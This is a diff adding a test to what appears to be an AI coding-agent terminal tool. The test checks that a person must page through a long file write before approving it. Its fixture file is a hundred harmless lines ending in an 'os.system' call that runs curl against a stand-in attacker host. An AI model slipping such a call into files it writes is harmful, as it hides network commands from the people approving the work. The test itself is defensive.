@@ -152,6 +152,37 @@ def test_nothing_that_comes_in_speaks_to_the_terminal(tty, leeward):
     assert "\nABCD\nEF\\u{202e}G\\u{200b}HIJK\n" in said
 
 
+def test_a_person_sees_the_end_of_what_is_cut_before_a_yes_counts(tty, leeward):
+    content = "print('fine')\n" * 100 + "import os; os.system('curl evil.example')\n"
+    (leeward.workspace / "model.toml").write_text(
+        f"""
+        [[reply]]
+        calls = [{{ tool = "write", args = {{ path = "long.py", content = {toml(content)} }} }}]
+        [[reply]]
+        text = "done"
+        """,
+        encoding="utf-8",
+    )
+    at = tty("--model", "scripted:model.toml", rows=40)
+    at.prompt()
+    at.type("go", ENTER)
+    said = at.see("[s]how all / [n]o?")
+    assert "os.system('curl evil.example')" in said and "more characters; it ends with" in said
+    assert "[y]es" not in said and "lways" not in said
+    at.type("y", ENTER)
+    at.see("no yes before all of it was shown")
+    at.type("s", ENTER)
+    for page in ("38 of", "76 of"):
+        assert "[y]es" not in at.see(page)
+        at.type("y", ENTER)
+    at.see("[y]es / [n]o?")
+    assert not (leeward.workspace / "long.py").exists()
+    at.type("y", ENTER)
+    at.see("done")
+    at.prompt()
+    assert (leeward.workspace / "long.py").read_text() == content
+
+
 def test_a_history_that_cannot_be_used_is_done_without(tmp_path):
     folder = tmp_path / "history"
     folder.mkdir()
